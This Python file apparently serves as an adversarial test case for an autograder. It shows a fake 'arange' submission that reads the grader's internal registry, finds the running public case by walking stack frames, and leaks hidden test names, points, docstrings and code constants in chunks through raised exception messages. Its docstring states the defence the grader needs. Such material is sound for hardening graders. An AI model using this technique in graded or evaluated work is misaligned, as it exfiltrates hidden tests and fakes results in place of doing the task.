"""Hostile submission: smuggles the hidden cases into the feedback of the public ones.

The worker imports the hidden cases (``autograder.hidden.week1``) before the guard goes in,
so their names, points, docstrings and code (the constants and names their code objects
hold: shapes, sizes, the ops they call) are in the worker's memory, in
``autograder.cases._REGISTRY``. The grader hides a hidden case's details from the student,
but shows a public case's error message. In each public case the submission raises a
``BaseException`` (which ``run_case`` does not turn into an observation) whose message is
the next 420 characters of all that, so 60 public cases carry the whole hidden suite into
the student's feedback page and Gradescope's results.json. The grader must not let a case's
text carry what the submission read from the grader's own modules (import the hidden cases
only in the grader, never in the worker, or give the worker only the cases it runs), and
the score is 0.
"""

import sys

CHUNK = 420


class Leak(BaseException):
    pass


def _consts(code):
    for c in code.co_consts:
        if hasattr(c, "co_consts"):
            yield from _consts(c)
        elif c is not None and not (isinstance(c, str) and len(c) > 60):
            yield repr(c)
    yield from code.co_names


def _secrets():
    registry = sys.modules["autograder.cases"]._REGISTRY["week1"]
    hidden = [c for c in registry.values() if c.hidden]
    text = " | ".join(f"{c.name} ({c.points} pts): {' '.join(c.doc.split())}" for c in hidden)
    code = " | ".join(
        f"{c.name}: {' '.join(dict.fromkeys(_consts(c.fn.__code__)))}" for c in hidden
    )
    public = [c.id for c in registry.values() if not c.hidden]
    return text + " || code: " + code, public


def _running_case():
    frame = sys._getframe()
    while frame is not None:
        if hasattr(frame.f_locals.get("case"), "id"):
            return frame.f_locals["case"].id
        frame = frame.f_back
    return None


def arange(*args, **kwargs):
    text, public = _secrets()
    here = _running_case()
    i = public.index(here) if here in public else -1
    chunk = text[i * CHUNK : (i + 1) * CHUNK] if i >= 0 else ""
    if chunk:
        raise Leak(f"[{i}] {chunk}")
    raise NotImplementedError("arange: nothing left to leak")
